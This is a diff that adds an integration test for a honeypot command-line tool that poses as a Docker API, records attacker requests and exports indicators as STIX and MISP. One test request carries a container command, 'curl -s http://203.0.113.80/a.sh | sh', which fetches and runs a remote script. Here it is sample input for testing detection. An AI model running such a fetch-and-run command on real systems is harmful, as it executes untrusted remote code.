@@ -1,0 +1,77 @@
+// `portcullis trap` as a process: events reach --events FILE and the store; `trap report` reads both and
+// exports STIX 2.1 and MISP. The process is ours; it is stopped with SIGTERM by pid.
+import { execFile, spawn, type ChildProcess } from 'node:child_process';
+import { mkdtempSync, readFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { http, until } from './helpers.js';
+
+const MAIN = join(import.meta.dirname, '../../../src/cli/main.ts');
+const dir = mkdtempSync(join(tmpdir(), 'pcl-trap-cli-'));
+const eventsFile = join(dir, 'trap.jsonl');
+const storeFile = join(dir, 'store.db');
+let port = 0;
+let child: ChildProcess;
+let stderr = '';
+
+function freePort(): Promise<number> {
+  return new Promise((resolve) => {
+    const s = createServer().listen(0, '127.0.0.1', () => {
+      const p = (s.address() as { port: number }).port;
+      s.close(() => resolve(p));
+    });
+  });
+}
+
+function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    execFile(process.execPath, ['--import', 'tsx', MAIN, ...args], { maxBuffer: 16 * 1024 * 1024 }, (err, stdout, se) =>
+      resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr: se }));
+  });
+}
+
+beforeAll(async () => {
+  port = await freePort();
+  child = spawn(process.execPath, ['--import', 'tsx', MAIN, 'trap', '--listen', `127.0.0.1:${port}`, '--events', eventsFile,
+    '--store', storeFile, '--sensor', 'cli-sensor'], { stdio: ['ignore', 'ignore', 'pipe'] });
+  child.stderr?.on('data', (c: Buffer) => { stderr += c.toString(); });
+  await until(() => stderr.includes('posing as Docker'));
+});
+
+afterAll(() => {
+  if (child.exitCode === null) child.kill('SIGKILL');
+});
+
+describe('trap: command line', () => {
+  it('records to the events file and the store, then reports and exports', async () => {
+    expect(stderr).toContain(`on 127.0.0.1:${port}`);
+    await http(port, 'HEAD', '/_ping');
+    await http(port, 'POST', '/images/create?fromImage=alpine&tag=latest');
+    const r = await http(port, 'POST', '/containers/create', { Image: 'alpine', Cmd: ['sh', '-c', 'curl -s http://203.0.113.80/a.sh | sh'] });
+    expect(r.status).toBe(201);
+    const exited = new Promise((resolve) => child.once('exit', resolve));
+    child.kill('SIGTERM');
+    await exited;
+    const lines = readFileSync(eventsFile, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(lines[0]).toMatchObject({ eventid: 'trap.session.opened', sensor: 'cli-sensor' });
+    expect(lines.at(-1)).toMatchObject({ eventid: 'trap.session.closed', reason: 'shutdown' });
+    expect(lines.some((e) => e.eventid === 'trap.indicator.extracted' && e.value === 'http://203.0.113.80/a.sh')).toBe(true);
+
+    const fromStore = await cli(['trap', 'report', '--store', storeFile, '--format', 'json']);
+    expect(fromStore.code).toBe(0);
+    const summary = JSON.parse(fromStore.stdout) as { totals: { sessions: number; requests: number }; indicators: Array<{ value: string }> };
+    expect(summary.totals).toMatchObject({ sessions: 1, requests: 3 });
+    expect(summary.indicators.map((i) => i.value)).toContain('http://203.0.113.80/a.sh');
+
+    const stix = JSON.parse((await cli(['trap', 'report', '--events', eventsFile, '--format', 'stix'])).stdout) as { type: string; objects: Array<{ type: string; pattern?: string }> };
+    expect(stix.type).toBe('bundle');
+    expect(stix.objects.map((o) => o.pattern)).toContain("[url:value = 'http://203.0.113.80/a.sh']");
+    const misp = JSON.parse((await cli(['trap', 'report', '--events', eventsFile, '--format', 'misp'])).stdout) as { Event: { Attribute: Array<{ type: string; value: string }> } };
+    expect(misp.Event.Attribute).toContainEqual(expect.objectContaining({ type: 'ip-dst', value: '203.0.113.80' }));
+    const bad = await cli(['trap', 'report', '--events', eventsFile, '--format', 'pdf']);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toContain('PCL_ERR_REPORT_FORMAT');
+  });
+});
